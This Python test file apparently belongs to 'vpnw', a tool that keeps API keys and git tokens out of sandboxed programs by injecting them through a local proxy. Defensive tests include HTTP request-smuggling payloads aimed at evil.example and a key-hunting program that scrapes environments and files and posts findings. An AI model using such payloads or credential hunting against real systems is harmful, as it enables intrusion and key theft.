"""Secrets stay outside (docs/secrets.md), end to end in the test world.

The world's stand-in model APIs (tests/world_servers/http_server.py) answer
only with the real key (content.OPENAI_REAL_KEY, ANTHROPIC_REAL_KEY). vpnw
reads the key from its own environment and gives the program a placeholder
and a secret door: every request through the door reaches the stand-in
with the real key; the program, its files, its memory and every output of
vpnw never hold it. Each attack has its control: the same attempt without
the secret door (the key in the program's environment) finds the key.
"""
from __future__ import annotations

import contextlib
import json
import os
import pwd
import re
import shutil
import shlex
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from e2e_support import assert_every_connection_accounted, describe, run_events
from stages.record.check import check_run
from world import DEFAULT_NAMES, content

OPENAI_KEY = content.OPENAI_REAL_KEY
ANTHROPIC_KEY = content.ANTHROPIC_REAL_KEY
GIT_TOKEN = content.GIT_REAL_TOKEN
KEYS = (OPENAI_KEY, ANTHROPIC_KEY, GIT_TOKEN)
NAMES = {**DEFAULT_NAMES, "api.openai.com": ["104.18.33.47"], "api.anthropic.com": ["160.79.104.10"]}
SDKS_PYTHON = Path(os.environ.get("VPNW_AGENTS", "/opt/vpnw-agents")) / "sdks" / "bin" / "python"
PROGS = Path(__file__).resolve().parent / "progs"
DOOR = "http://127.0.0.1:47801"        # the first secret's door (stages/config/secrets.py FIRST_PORT)

POLICY = """\
version = 1
[policy]
default = "deny"
allow = ["api.openai.com", "api.anthropic.com", "git.world", "github.com"]

[secrets.openai]
host = "api.openai.com"
env = "OPENAI_API_KEY"
from = "env:OPENAI_API_KEY"

[secrets.anthropic]
host = "api.anthropic.com"
env = "ANTHROPIC_API_KEY"
from = "env:ANTHROPIC_API_KEY"
"""


@pytest.fixture(scope="module")
def secret_world(world):
    world.dns_reset(NAMES)
    try:
        yield world
    finally:
        world.dns_reset()


def _env(world, **more) -> dict:
    return {"OPENAI_API_KEY": OPENAI_KEY, "ANTHROPIC_API_KEY": ANTHROPIC_KEY,
            "SSL_CERT_FILE": str(world.ca_pem), **more}


def _policy(world, name: str, text: str = POLICY) -> Path:
    return world.file(f"secrets-{name}.toml", text)


def _vpnw(world, user, mode, policy, argv, **kw):
    return world.vpnw([mode, "--policy", str(policy), "--", *argv], user=user,
                      env=kw.pop("env", None) or _env(world), timeout=kw.pop("timeout", 120), **kw)


def _assert_no_key_anywhere(world, result, *extra: str) -> None:
    """Every output of vpnw this run made, and the world's logs, hold no key."""
    texts = {"stdout": result.stdout, "stderr": result.stderr, **{f"extra{n}": t for n, t in enumerate(extra)}}
    for path in result.run_files():
        texts[str(path)] = path.read_text(errors="replace")
    ledger = result.state_home / "vpnw" / "ledger.jsonl"
    if ledger.exists():
        texts["ledger"] = ledger.read_text(errors="replace")
    texts["web.log"] = "\n".join(world.web_log())
    for name, text in texts.items():
        for key in KEYS:
            assert key not in text, f"the real key is in {name}"


def _curl(*args: str) -> list[str]:
    return ["curl", "-sS", "--max-time", "30", *args]


def test_curl_through_the_secret_door_reaches_the_api_with_the_real_key(secret_world, user):
    w = secret_world
    policy = _policy(w, "curl")
    r = _vpnw(w, user, "guard", policy, [
        "sh", "-c", 'curl -sS --max-time 30 "$OPENAI_BASE_URL/echo" -H "Authorization: Bearer $OPENAI_API_KEY";'
                    ' echo; curl -sS --max-time 30 "$ANTHROPIC_BASE_URL/v1/echo" -H "x-api-key: $ANTHROPIC_API_KEY"'])
    assert r.returncode == 0, describe(r)
    answers = [json.loads(line) for line in r.stdout.splitlines() if line.startswith("{")]
    assert [a["auth"] for a in answers] == ["ok", "ok"], answers
    assert answers[0]["host"] == "api.openai.com" and answers[1]["host"] == "api.anthropic.com", answers
    events = run_events(r)
    by_conn = assert_every_connection_accounted(events)
    secret_conns = [evs for evs in by_conn.values() if evs[0]["fields"]["door"] == "secret"]
    assert sorted(evs[0]["fields"]["secret"] for evs in secret_conns) == ["anthropic", "openai"]
    assert all(any(e["type"] == "conn.open" for e in evs) for evs in secret_conns)
    start = events[0]["fields"]
    assert {s["name"] for s in start["secrets"]} == {"openai", "anthropic"}
    assert "keys_given" not in start        # placeholders only
    _assert_no_key_anywhere(w, r)


def test_without_the_secret_door_the_stand_in_refuses_the_placeholder(secret_world, user):
    """The control: the stand-in really requires the key (the placeholder,
    sent to the API host directly through the HTTP door, gets 401)."""
    w = secret_world
    policy = _policy(w, "control")
    r = _vpnw(w, user, "guard", policy, [
        "sh", "-c", f'curl -sS --max-time 30 --cacert {w.ca_pem} https://api.openai.com/v1/echo '
                    '-H "Authorization: Bearer $OPENAI_API_KEY"'])
    assert r.returncode == 0, describe(r)
    assert json.loads(r.stdout)["auth"] == "wrong", r.stdout


# ── the SDKs, plain and streaming, under trace and guard ─────────────────────

@pytest.mark.parametrize("mode", ["trace", "guard"])
def test_the_openai_and_anthropic_sdks_work_through_their_secret_doors(secret_world, user, mode):
    if not SDKS_PYTHON.exists():
        pytest.skip("the Python SDKs are not installed (scripts/setup puts them in /opt/vpnw-agents/sdks)")
    w = secret_world
    prog = w.file("secret_sdks.py", (PROGS / "secret_sdks.py").read_bytes())
    r = _vpnw(w, user, mode, _policy(w, f"sdks-{mode}"), [str(SDKS_PYTHON), str(prog)])
    assert r.returncode == 0, describe(r)
    result = json.loads(r.stdout.splitlines()[-1])
    answer = content.MODEL_ANSWER
    assert result["openai"] == {"models": ["gpt-world"], "chat": answer, "stream": result["openai"].get("stream")}, result
    assert result["anthropic"] == {"models": ["claude-world"], "chat": answer,
                                   "stream": result["anthropic"].get("stream")}, result
    for sdk in ("openai", "anthropic"):
        # Streamed: the answer came in its pieces, one per event the host sent.
        assert "".join(result[sdk]["stream"]) == answer and len(result[sdk]["stream"]) == len(answer.split()), result
    events = run_events(r)
    assert_every_connection_accounted(events)
    doors = {e["fields"]["door"] for e in events if e["type"] == "conn.request"}
    assert doors == {"secret"}, doors
    _assert_no_key_anywhere(w, r)


def test_litellm_works_through_the_openai_secret_door(secret_world, user):
    """litellm (aider's way to its model) with OPENAI_BASE_URL and a placeholder."""
    if not SDKS_PYTHON.exists():
        pytest.skip("the Python SDKs are not installed (scripts/setup puts them in /opt/vpnw-agents/sdks)")
    w = secret_world
    prog = w.file("secret_sdks.py", (PROGS / "secret_sdks.py").read_bytes())
    # Its own model cost map stays local (it asks raw.githubusercontent.com otherwise).
    r = _vpnw(w, user, "guard", _policy(w, "litellm"), [str(SDKS_PYTHON), str(prog), "litellm"],
              timeout=180, env=_env(w, LITELLM_LOCAL_MODEL_COST_MAP="True"))
    assert r.returncode == 0, describe(r)
    result = json.loads(r.stdout.splitlines()[-1])["litellm"]
    assert result.get("chat") == content.MODEL_ANSWER and "".join(result["stream"]) == content.MODEL_ANSWER, result
    _assert_no_key_anywhere(w, r)


# ── the attacks, each with its control ───────────────────────────────────────

def _hunt(world, user, policy, env, state_home=None, extra=(), dirs=()):
    prog = world.file("secret_hunt.py", (PROGS / "secret_hunt.py").read_bytes())
    collected = world.tmp / "collected.log"
    before = collected.stat().st_size if collected.exists() else 0
    r = world.vpnw(["guard", "--policy", str(policy), *extra, "--", sys.executable, str(prog),
                    str(world.tmp / "files"), *map(str, dirs)],
                   user=user, env=env, timeout=180, state_home=state_home)
    lines = [line for line in r.stdout.splitlines() if line.startswith("{")]
    assert lines, describe(r)
    posted = collected.read_bytes()[before:].decode(errors="replace") if collected.exists() else ""
    return r, json.loads(lines[-1]), posted


HUNT_POLICY = POLICY.replace('"github.com"]', '"github.com"]\n[files]\ndeny_read = []')


@contextlib.contextmanager
def _key_files(world, user):
    """The keys where agents keep them: a key file a `file:` source names
    (the OpenAI key) and Codex's own ~/.codex/auth.json (here holding the git
    token, to tell the two apart); removed afterwards (the home is shared)."""
    owner = pwd.getpwnam(user)
    work = world.workdir(user)
    key_file = work / "openai.key"
    codex = world._home(user) / ".codex"
    codex.mkdir(exist_ok=True)
    auth = codex / "auth.json"
    for path, text in ((key_file, OPENAI_KEY + "\n"), (auth, json.dumps({"OPENAI_API_KEY": GIT_TOKEN}))):
        path.write_text(text)
        os.chown(path, owner.pw_uid, owner.pw_gid)
        path.chmod(0o600)
    os.chown(codex, owner.pw_uid, owner.pw_gid)
    try:
        yield work, key_file
    finally:
        shutil.rmtree(codex)


def test_a_program_hunting_for_the_key_finds_only_placeholders(secret_world, user):
    """It reads its environment, /proc/*/environ and cmdline, every file it
    can read (home, start directory, the world's files, the key file's
    directory), its own memory, and posts what it found to an allowed host:
    never a key. The `file:` source's file and ~/.codex/auth.json (which the
    OpenAI secret stands for) are hidden from it."""
    w = secret_world
    with _key_files(w, user) as (work, key_file):
        _hunt_through_doors(w, user, work, key_file)


def _hunt_through_doors(w, user, work, key_file):
    policy = _policy(w, "hunt", POLICY.replace('from = "env:OPENAI_API_KEY"', f'from = "file:{key_file}"'))
    events_copy = w.workdir(user) / "events.jsonl"
    syslog_path = w.tmp / "files" / f"syslog-{user}.sock"
    syslog = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    syslog.bind(str(syslog_path))
    syslog_path.chmod(0o777)
    try:
        r, result, posted = _hunt(w, user, policy, _env(w), extra=(
            "--events-to", f"cat > {events_copy}", "--syslog", str(syslog_path)), dirs=(work,))
        syslog.setblocking(False)
        messages = []
        while True:
            try:
                messages.append(syslog.recv(65536).decode(errors="replace"))
            except BlockingIOError:
                break
    finally:
        syslog.close()
        syslog_path.unlink()
    assert messages, "nothing reached the syslog socket"
    assert result["posted"] and r.returncode == 0, describe(r)
    assert any(k.startswith("sk-vpnw-placeholder-") for k in result["found"]), result
    assert any(k.startswith("sk-ant-vpnw-placeholder-") for k in result["found"]), result
    for key in KEYS:
        assert key not in posted and key not in r.stdout
    shown = w.vpnw(["show"], user=user, state_home=r.state_home)
    learned = w.vpnw(["learn", "--name", "hunt", "--from", str(r.run_files()[-1])], user=user,
                     state_home=r.state_home)
    assert shown.returncode == 0 and learned.returncode == 0, (describe(shown), describe(learned))
    assert events_copy.exists()
    _assert_no_key_anywhere(w, r, posted, shown.stdout + shown.stderr, learned.stdout + learned.stderr,
                            events_copy.read_text(), "\n".join(messages))


def test_control_the_same_hunt_finds_a_key_the_program_holds(secret_world, user):
    """Without a secret door (the key given to the program, as today) the
    same hunt finds it and posts it: the attack itself works."""
    w = secret_world
    policy = _policy(w, "hunt-control", POLICY.split("[secrets.openai]")[0])
    with _key_files(w, user) as (work, _):
        r, result, posted = _hunt(w, user, policy, _env(w), dirs=(work,))
    for key in KEYS:        # the env's two, the key file's, auth.json's
        assert key in result["found"] and key in posted, (key, result, describe(r))
    # The record says the program held the keys (names only).
    assert run_events(r)[0]["fields"]["keys_given"] == ["ANTHROPIC_API_KEY", "OPENAI_API_KEY"]


# ── hostile requests on the door ────────────────────────────────────────────

H = "Host: 127.0.0.1:47801\r\n"
HOSTILE = [
    ("both-framings", "POST /v1/echo HTTP/1.1\r\n" + H + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
                      "0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", 400),
    ("second-host", "GET /v1/echo HTTP/1.1\r\n" + H + "Host: evil.example\r\n\r\n", 400),
    ("bare-cr", "GET /v1/echo HTTP/1.1\r\n" + H + "X-A: a\rHost: evil.example\r\n\r\n", 400),
    ("nul", "GET /v1/echo HTTP/1.1\r\n" + H + "X-A: a\x00b\r\n\r\n", 400),
    ("folded", "GET /v1/echo HTTP/1.1\r\n" + H + "X-A: a\r\n Host: evil.example\r\n\r\n", 400),
    ("absolute-elsewhere", "GET http://evil.example/v1/echo HTTP/1.1\r\nHost: evil.example\r\n\r\n", 400),
    ("host-elsewhere", "GET /v1/echo HTTP/1.1\r\nHost: evil.example\r\n\r\n", 400),
    ("connect", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n", 405),
    ("huge-head", "GET /v1/echo HTTP/1.1\r\n" + H + ("X-Pad: " + "a" * 1000 + "\r\n") * 90 + "\r\n", 431),
    ("odd-coding", "POST /v1/echo HTTP/1.1\r\n" + H + "Transfer-Encoding: gzip, chunked, chunked\r\n\r\n", 501),
]


def test_hostile_requests_on_the_secret_door_are_refused(secret_world, user):
    w = secret_world
    prog = w.file("secret_door_client.py", (PROGS / "secret_door_client.py").read_bytes())
    steps = [["raw", name, text] for name, text, _ in HOSTILE]
    # Kept alive: a good request, then one for another host on the same connection.
    steps.append(["raw", "kept-alive-then-elsewhere", "GET /v1/echo HTTP/1.1\r\n" + H + "\r\n"
                  "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"])
    # The program's own credential headers never reach the host; the real one does, once.
    steps.append(["raw", "own-credentials", "GET /v1/echo HTTP/1.1\r\n" + H +
                  "Authorization: Bearer sk-stolen\r\nX-Api-Key: sk-stolen\r\nCookie: a=b\r\n"
                  "Connection: close\r\n\r\n"])
    log_before = len(w.web_log())
    r = _vpnw(w, user, "guard", _policy(w, "hostile"), [sys.executable, str(prog), "47801", json.dumps(steps)])
    assert r.returncode == 0, describe(r)
    results = {d["name"]: d for d in map(json.loads, r.stdout.splitlines())}
    for name, _, status in HOSTILE:
        assert [a[0] for a in results[name]["answers"]] == [status], (name, results[name])
    kept = results["kept-alive-then-elsewhere"]["answers"]
    assert [a[0] for a in kept] == [200, 400] and json.loads(kept[0][1])["auth"] == "ok", kept
    own = json.loads(results["own-credentials"]["answers"][0][1])
    assert own["auth"] == "ok" and own["host"] == "api.openai.com", own
    assert "x-api-key" not in own["headers"] and "cookie" not in own["headers"], own
    new_log = w.web_log()[log_before:]
    assert not any("evil" in line for line in new_log), new_log
    assert len(new_log) == 2, new_log       # the two good requests, and nothing else
    events = run_events(r)
    assert check_run(events) == []      # each refused head a handshake's conn.fail, no request
    hosts = {e["fields"]["host"] for e in events if e["type"] == "conn.request"}
    assert hosts <= {"api.openai.com"}, hosts
    _assert_no_key_anywhere(w, r)


def test_websocket_upload_and_download_through_the_secret_door(secret_world, user):
    w = secret_world
    prog = w.file("secret_door_client.py", (PROGS / "secret_door_client.py").read_bytes())
    n = 8 << 20
    steps = [["ws", "ws", 300_000], ["upload", "up", n], ["download", "down", n]]
    r = _vpnw(w, user, "guard", _policy(w, "bulk"), [sys.executable, str(prog), "47801", json.dumps(steps)])
    assert r.returncode == 0, describe(r)
    results = {d["name"]: d for d in map(json.loads, r.stdout.splitlines())}
    assert results["ws"] == {"name": "ws", "status": 101, "echoed": True}, results["ws"]
    up = results["up"]
    assert json.loads(up["answers"][0][1]) == {"sha256": up["sha256"], "length": n}, up
    assert results["down"] == {"name": "down", "length": n, "sha256": content.payload_sha256(n, "down")}


# ── method and path rules ───────────────────────────────────────────────────

RULES_POLICY = POLICY.replace('from = "env:OPENAI_API_KEY"',
                              'from = "env:OPENAI_API_KEY"\nallow = ["GET /v1/echo", "POST /v1/chat/*"]')


def test_a_request_the_rules_refuse_is_403_a_denial_and_120_under_guard(secret_world, user):
    w = secret_world
    prog = w.file("secret_door_client.py", (PROGS / "secret_door_client.py").read_bytes())
    steps = [["raw", "allowed", "GET /v1/echo HTTP/1.1\r\n" + H + "Connection: close\r\n\r\n"],
             ["raw", "refused", "GET /v1/models HTTP/1.1\r\n" + H + "Connection: close\r\n\r\n"],
             ["raw", "dot-dot", "GET /v1/echo/../models HTTP/1.1\r\n" + H + "Connection: close\r\n\r\n"],
             ["raw", "encoded", "GET /v1/echo%2f..%2fmodels HTTP/1.1\r\n" + H + "Connection: close\r\n\r\n"]]
    r = _vpnw(w, user, "guard", _policy(w, "rules", RULES_POLICY),
              [sys.executable, str(prog), "47801", json.dumps(steps)])
    assert r.returncode == 120, describe(r)
    results = {d["name"]: d for d in map(json.loads, r.stdout.splitlines())}
    assert results["allowed"]["answers"][0][0] == 200
    refused = results["refused"]["answers"][0]
    assert refused[0] == 403 and "GET /v1/models" in refused[1] and 'secret "openai"' in refused[1], refused
    assert results["dot-dot"]["answers"][0][0] == 403 and results["encoded"]["answers"][0][0] == 403
    assert "DENY" in r.stderr and "/v1/models" in r.stderr, r.stderr
    denials = [e["fields"] for e in run_events(r) if e["type"] == "policy.deny"]
    assert [(d["door"], d["method"], d["path"]) for d in denials] == [
        ("secret", "GET", "/v1/models"), ("secret", "GET", "/v1/echo/../models"),
        ("secret", "GET", "/v1/echo%2f..%2fmodels")], denials
    _assert_no_key_anywhere(w, r)


def test_a_secret_door_to_a_host_the_policy_denies_is_denied(secret_world, user):
    w = secret_world
    policy = _policy(w, "denied-host", POLICY.replace('"api.openai.com", ', ""))
    r = _vpnw(w, user, "guard", policy, _curl("-o", "/dev/null", "-w", "%{http_code}", DOOR + "/v1/echo"))
    assert r.returncode == 120 and r.stdout == "403", describe(r)
    denials = [e["fields"] for e in run_events(r) if e["type"] == "policy.deny"]
    assert [(d["door"], d["host"]) for d in denials] == [("secret", "api.openai.com")], denials


# ── sources ─────────────────────────────────────────────────────────────────

@pytest.mark.parametrize("source, says", [
    ("env:VPNW_NO_SUCH_KEY", "VPNW_NO_SUCH_KEY is not set in vpnw's environment"),
    ("file:/nonexistent/key", "/nonexistent/key cannot be read"),
    ("command:exit 3", "the command failed (exit status 3)"),
    ("command:true", "the source gave nothing"),
])
def test_a_failing_source_stops_the_run_before_the_program_with_121(secret_world, user, source, says):
    w = secret_world
    marker = w.workdir(user) / "ran"
    policy = _policy(w, "failing", POLICY.replace('from = "env:OPENAI_API_KEY"', f'from = "{source}"'))
    r = _vpnw(w, user, "run", policy, ["touch", str(marker)])
    assert r.returncode == 121, describe(r)
    assert f'secret "openai" (from {source})' in r.stderr and says in r.stderr, r.stderr
    assert not marker.exists()
    assert r.run_files() == []


def test_a_command_source_is_read_outside(secret_world, user):
    w = secret_world
    policy = _policy(w, "command", POLICY.replace('from = "env:OPENAI_API_KEY"',
                                                  'from = "command:printf %s \\"$WORLD_KEY\\""'))
    r = _vpnw(w, user, "guard", policy, _curl(DOOR + "/v1/echo"), env=_env(w, WORLD_KEY=OPENAI_KEY))
    assert r.returncode == 0 and json.loads(r.stdout)["auth"] == "ok", describe(r)


# ── git over HTTPS with a token ─────────────────────────────────────────────

GIT_POLICY = """\
version = 1
[policy]
default = "deny"
allow = ["github.com"]

[secrets.github]
host = "github.com"
from = "env:WORLD_GIT_TOKEN"
"""


def test_git_clone_over_https_with_a_token_through_the_secret_door(secret_world, user):
    """git is pointed at the door by GIT_CONFIG_COUNT's url.<door>.insteadOf
    (nothing written into the user's files); the door adds the token as
    HTTP Basic; the repository needs it (the control: without the door the
    same clone is refused)."""
    w = secret_world
    work = w.workdir(user)
    env = _env(w, WORLD_GIT_TOKEN=GIT_TOKEN, GIT_TERMINAL_PROMPT="0")
    clone = ["git", "clone", "-q", "https://github.com/private/repo.git", str(work / "repo")]
    r = _vpnw(w, user, "guard", _policy(w, "git", GIT_POLICY), clone, env=env)
    assert r.returncode == 0, describe(r)
    assert (work / "repo" / "README").read_text() == content_git_readme()
    origin = w.run(["git", "-C", str(work / "repo"), "remote", "get-url", "origin"], user=user)
    assert origin.stdout.strip() == "https://github.com/private/repo.git"     # as the user wrote it
    _assert_no_key_anywhere(w, r, (work / "repo" / ".git" / "config").read_text())
    control = _vpnw(w, user, "guard", _policy(w, "git-control", GIT_POLICY.split("[secrets")[0]),
                    ["git", "-c", f"http.sslCAInfo={w.ca_pem}", "clone", "-q",
                     "https://github.com/private/repo.git", str(work / "control")], env=env)
    assert control.returncode != 0 and any(
        said in control.stderr for said in ("401", "Authentication failed", "could not read Username")), \
        describe(control)


def content_git_readme() -> str:
    from world import GIT_README
    return GIT_README


def test_a_command_value_is_fetched_again_when_its_cache_time_is_over(secret_world, user):
    """cache = 1: the second request, 1.5 s later, runs the command again
    (outside, in the broker); when it then fails, the request is refused
    (502, naming the secret), never sent without the key."""
    w = secret_world
    work = w.workdir(user)
    count, fail = work / "count", work / "fail-next"
    command = f'echo run >> {count}; if [ -e {fail} ]; then exit 7; fi; printf %s "$WORLD_KEY"'
    policy = _policy(w, f"cache-{user}", POLICY.replace('from = "env:OPENAI_API_KEY"',
                                                        f"from = 'command:{command}'\ncache = 1"))
    curl = f'curl -sS --max-time 30 -w "##%{{http_code}}\\n" {DOOR}/v1/echo'
    r = _vpnw(w, user, "guard", policy, ["sh", "-c", f"{curl}; {curl}; sleep 1.5; {curl}; touch {fail}; "
                                                     f"sleep 1.5; {curl}"], env=_env(w, WORLD_KEY=OPENAI_KEY))
    answers = re.findall(r"(.*?)##(\d{3})\n", r.stdout, re.S)
    assert [code for _, code in answers] == ["200", "200", "200", "502"], describe(r)
    assert all(json.loads(body)["auth"] == "ok" for body, _ in answers[:3]), answers
    assert 'secret "openai"' in answers[3][0] and "exit status 7" in answers[3][0], answers[3]
    assert count.read_text().count("run") == 3      # at the start, after 1.5 s, and the failing one
    _assert_no_key_anywhere(w, r)


def test_under_dry_run_a_refused_request_goes_on_as_one_that_would_be_denied(secret_world, user):
    w = secret_world
    r = w.vpnw(["guard", "--dry-run", "--policy", str(_policy(w, "rules-dry", RULES_POLICY)), "--",
                *_curl(DOOR + "/v1/models")], user=user, env=_env(w), timeout=120)
    # guard --dry-run ends 120 when anything would have been denied, as at any door.
    assert r.returncode == 120 and json.loads(r.stdout)["data"][0]["id"] == "gpt-world", describe(r)
    events = run_events(r)
    assert check_run(events) == []
    would = [e for e in events if e["type"] == "policy.deny"]
    assert [(e["fields"]["enforced"], e["fields"]["method"], e["fields"]["path"]) for e in would] == [
        (False, "GET", "/v1/models")], would
    opened = [e["conn"] for e in events if e["type"] == "conn.open"]
    assert [e["conn"] for e in would] == opened     # on the connection that carried it


CLAUDE = Path(os.environ.get("VPNW_AGENTS", "/opt/vpnw-agents")) / "node_modules" / ".bin" / "claude"


def test_claude_code_prints_the_models_answer_through_its_secret_door(secret_world, user):
    """Claude Code headless (`-p`) with an API key: ANTHROPIC_BASE_URL is the
    door, ANTHROPIC_API_KEY a placeholder; its streamed /v1/messages answer
    comes back through the door."""
    if not CLAUDE.exists():
        pytest.skip("Claude Code is not installed (scripts/setup puts it in /opt/vpnw-agents)")
    w = secret_world
    home = w.workdir(user)
    env = _env(w, HOME=str(home), NODE_EXTRA_CA_CERTS=str(w.ca_pem), DISABLE_TELEMETRY="1",
               CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC="1", DISABLE_AUTOUPDATER="1")
    r = _vpnw(w, user, "trace", _policy(w, "claude"), [str(CLAUDE), "-p", "say hi"], env=env, cwd=home,
              timeout=180)
    assert r.returncode == 0 and content.MODEL_ANSWER in r.stdout, describe(r)
    doors = {e["fields"]["door"] for e in run_events(r) if e["type"] == "conn.request"
             and e["fields"]["host"] == "api.anthropic.com"}
    assert doors == {"secret"}, doors
    _assert_no_key_anywhere(w, r)


CODEX = Path(os.environ.get("VPNW_AGENTS", "/opt/vpnw-agents")) / "node_modules" / ".bin" / "codex"


def test_codex_cli_prints_the_models_answer_through_its_secret_door(secret_world, user):
    """Codex CLI headless (`codex exec`) with an API key: its config's
    openai_base_url is the door (it ignores OPENAI_BASE_URL); it tries the
    Responses API's WebSocket first (the stand-in has none: refused), then
    its streamed HTTP answer comes back through the door."""
    if not CODEX.exists():
        pytest.skip("Codex CLI is not installed (scripts/setup puts it in /opt/vpnw-agents)")
    w = secret_world
    home, work = w.workdir(user), w.workdir(user)
    env = _env(w, HOME=str(home), CODEX_HOME=str(home / ".codex"))
    (home / ".codex").mkdir()
    shutil.chown(home / ".codex", user, user)
    # Its update check and sign-in hosts allowed (they fail on their own in the world).
    policy = _policy(w, "codex", POLICY.replace('"github.com"]', '"github.com", "api.github.com", "chatgpt.com", "ab.chatgpt.com"]'))
    r = _vpnw(w, user, "trace", policy,
              [str(CODEX), "--disable", "daemon_auto_start", "exec", "--skip-git-repo-check",
               "-c", f'openai_base_url="{DOOR}/v1"', "say hi"],
              env=env, cwd=work, timeout=180)
    assert r.returncode == 0 and content.MODEL_ANSWER in r.stdout, describe(r)
    doors = {e["fields"]["door"] for e in run_events(r) if e["type"] == "conn.request"
             and e["fields"]["host"] == "api.openai.com"}
    assert doors == {"secret"}, doors
    _assert_no_key_anywhere(w, r)
